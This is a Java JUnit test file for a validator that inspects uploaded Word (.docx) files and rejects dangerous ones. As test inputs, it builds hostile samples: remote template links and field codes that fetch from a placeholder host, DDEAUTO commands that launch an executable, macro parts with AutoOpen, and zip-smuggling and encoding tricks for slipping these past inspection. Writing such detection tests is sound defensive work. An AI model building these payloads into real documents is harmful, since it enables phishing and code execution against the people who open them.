package uk.concordat.document.workshop;

import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.Charset;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import uk.concordat.document.SampleFiles;
import uk.concordat.kernel.FieldError;
import uk.concordat.kernel.InvalidInput;

/** What hides something from whoever looks into a Word document, and not from Word. */
class WordFileTest {
  private static final String TYPES = "[Content_Types].xml";
  private static final String RELS = "word/_rels/settings.xml.rels";
  private static final String TEMPLATE =
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
  private static final String LINK =
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink";
  private static final String EVIL = "http://192.0.2.1/t.dotm";
  private static final byte[] BODY = "<w/>".getBytes(UTF_8);

  private static ZipFiles word() {
    return new ZipFiles().part(TYPES, types("")).part("word/document.xml", BODY);
  }

  private static byte[] types(String more) {
    return ("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override"
            + " PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
            + more
            + "</Types>")
        .getBytes(UTF_8);
  }

  private static byte[] rels(String element) {
    return rels(element, UTF_8);
  }

  private static byte[] rels(String element, Charset charset) {
    String mark = charset.equals(UTF_16LE) ? "\ufeff" : "";
    return (mark + "<Relationships xmlns:x=\"urn:x\">" + element + "</Relationships>")
        .getBytes(charset);
  }

  private static String relationship(String type, String target, String mode) {
    return "<Relationship Id=\"r1\" Type=\"%s\" Target=\"%s\"%s/>".formatted(type, target, mode);
  }

  @Test
  void anHonestOneIsTaken() {
    new WordFile(SampleFiles.docx()).check();
    new WordFile(
            word()
                .part(
                    "word/_rels/document.xml.rels",
                    rels(
                        relationship(LINK, "https://example.org", " TargetMode=\"External\"")
                            + relationship("urn:styles", "styles.xml", "")))
                .written())
        .check();
  }

  static Stream<Arguments> relationships() {
    String external = " TargetMode=\"External\"";
    String plain = relationship(TEMPLATE, EVIL, external);
    return Stream.of(
        Arguments.of("plain", rels(plain)),
        Arguments.of("UTF-16", rels(plain, UTF_16LE)),
        Arguments.of("a prefix", rels(plain.replace("<Rel", "<x:Rel"))),
        Arguments.of("written as a number", rels(plain.replace("External", "&#69;xternal"))),
        Arguments.of("an angle before it", rels(plain.replace(" Type", " x=\"a>b\" Type"))),
        Arguments.of(
            "called a link elsewhere",
            rels(plain.replace(" Type", " x=\"/relationships/hyperlink\" Type"))),
        Arguments.of("without its mode", rels(relationship(TEMPLATE, EVIL, ""))),
        Arguments.of("on a share", rels(relationship(TEMPLATE, "\\\\192.0.2.1\\t.dotm", ""))));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource
  void relationships(String how, byte[] rels) {
    refused(word().part(RELS, rels), "fetches");
  }

  private static byte[] document(String inner) {
    return ("<w:document xmlns:w=\"urn:w\">" + inner + "</w:document>").getBytes(UTF_8);
  }

  private static String mark(String type) {
    return "<w:fldChar w:fldCharType=\"%s\"/>".formatted(type);
  }

  private static String code(String... pieces) {
    return Stream.of(pieces)
        .map(piece -> "<w:r><w:instrText>" + piece + "</w:instrText></w:r>")
        .collect(Collectors.joining("", mark("begin"), mark("separate") + mark("end")));
  }

  static Stream<Arguments> fieldsThatAct() {
    String picture = "INCLUDEPICTURE \"http://192.0.2.1/p.png\" \\d";
    return Stream.of(
        Arguments.of("DDE", code("DDEAUTO c:\\\\x.exe \"/k\"")),
        Arguments.of("in pieces", code(" D", "D<![CDATA[E]]>", " x y")),
        Arguments.of("as a number", code("&#68;DEAUTO x")),
        Arguments.of("struck out", "<w:delInstrText>DDE x</w:delInstrText>"),
        Arguments.of("simple", "<w:fldSimple w:instr=\" dde x y\"/>"),
        Arguments.of("in another", code("IF 1 = 1 ").replace(mark("separate"), code("DDE x y"))),
        Arguments.of("made up", code("").replace(mark("separate"), code("QUOTE 68 68 69"))),
        Arguments.of("a picture", code(picture)),
        Arguments.of("a switch before it", code("INCLUDEPICTURE \\d \"http://192.0.2.1/p\"")),
        Arguments.of("a share", code("INCLUDETEXT \"\\\\\\\\192.0.2.1\\\\a\"")),
        Arguments.of("a document of another", code("RD \"\\\\\\\\192.0.2.1\\\\a.docx\"")),
        Arguments.of("a database", code("DATABASE \\d \"C:\\\\a.mdb\" \\s \"select 1\"")),
        Arguments.of("crooked quotes", code("INCLUDETEXT \u201cfile://192.0.2.1/a\u201d")),
        Arguments.of(
            "from another field",
            code("INCLUDETEXT ").replace(mark("separate"), code("DOCPROPERTY x"))));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource
  void fieldsThatAct(String how, String fields) {
    refused(word().part("word/header1.xml", document(fields)), "macros");
    refused(word().part("word/a.jpg", document(fields)), "macros");
  }

  @Test
  void fieldsThatOnlyShowSomethingAreTaken() {
    String fields =
        code("TOC \\o \"1-3\"")
            + code("HYPERLINK \"https://example.org/dde\"")
            + code("PAGE \\* MERGEFORMAT")
            + code("INCLUDEPICTURE \"C:\\\\Pictures\\\\door.png\" \\* MERGEFORMAT")
            + "<w:t>DDEAUTO is written here as a word.</w:t>";
    new WordFile(word().part("word/header1.xml", document(fields)).written()).check();
  }

  static Stream<Arguments> readInTwoWays() {
    byte[] code = "Sub AutoOpen".getBytes(UTF_8);
    byte[] twice =
        new ZipFiles()
            .gap(word().written())
            .gap(new byte[1])
            .part(TYPES, types(""))
            .part("word/vbaProject.bin", code)
            .written();
    return Stream.of(
        Arguments.of("a second archive behind the first", twice),
        Arguments.of("not listed", word().hidden("word/vbaProject.bin", code).written()),
        Arguments.of("a gap", word().gap(new byte[1]).part("a.xml", BODY).written()),
        Arguments.of("a gap before", new ZipFiles().gap(BODY).part(TYPES, types("")).written()),
        Arguments.of("two names", word().part("word/a.xml", "word/b.xml", BODY).written()),
        Arguments.of("elsewhere", word().misplaced("word/a.xml", BODY, 9_999).written()),
        Arguments.of("listed twice", word().part("word/document.xml", BODY).written()),
        Arguments.of("the same to Word", word().part("WORD/Document.xml", BODY).written()),
        Arguments.of("types twice", word().part(TYPES, types("")).written()),
        Arguments.of("an alias", word().part("word/%76baProject.xml", code).written()),
        Arguments.of("bytes behind it", more(word().written())),
        Arguments.of(
            "what a part means",
            word()
                .part(RELS, "<!DOCTYPE r [<!ENTITY e \"External\">]><r/>".getBytes(UTF_8))
                .written()));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource
  void readInTwoWays(String how, byte[] file) {
    refused(file, "unreadable");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.ms-office.vbaProject",
        "APPLICATION/VND.MS-OFFICE.VBAPROJECT"
      })
  void aPartThatRunsIsKnownByItsType(String type) {
    String more = "<Default Extension='jpg' ContentType='%s'/>".formatted(type);
    refused(new ZipFiles().part(TYPES, types(more)).part("word/a.jpg", BODY), "macros");
  }

  @Test
  void aPartThatIsNotAsLongAsItSaysIsRefused() {
    byte[] file = SampleFiles.docx();
    for (int at = 0; at < file.length - 46; at++) {
      if (file[at] == 'P' && file[at + 1] == 'K' && file[at + 2] == 1 && file[at + 3] == 2) {
        file[at + 24]++; // what it unfolds into
        break;
      }
    }
    refused(file, "unreadable");
  }

  private static byte[] more(byte[] file) {
    return Arrays.copyOf(file, file.length + 1);
  }

  private static void refused(ZipFiles file, String code) {
    refused(file.written(), code);
  }

  private static void refused(byte[] file, String code) {
    assertThatThrownBy(() -> new WordFile(file).check())
        .isInstanceOfSatisfying(
            InvalidInput.class,
            wrong -> assertThat(wrong.errors()).isEqualTo(List.of(new FieldError("file", code))));
  }
}
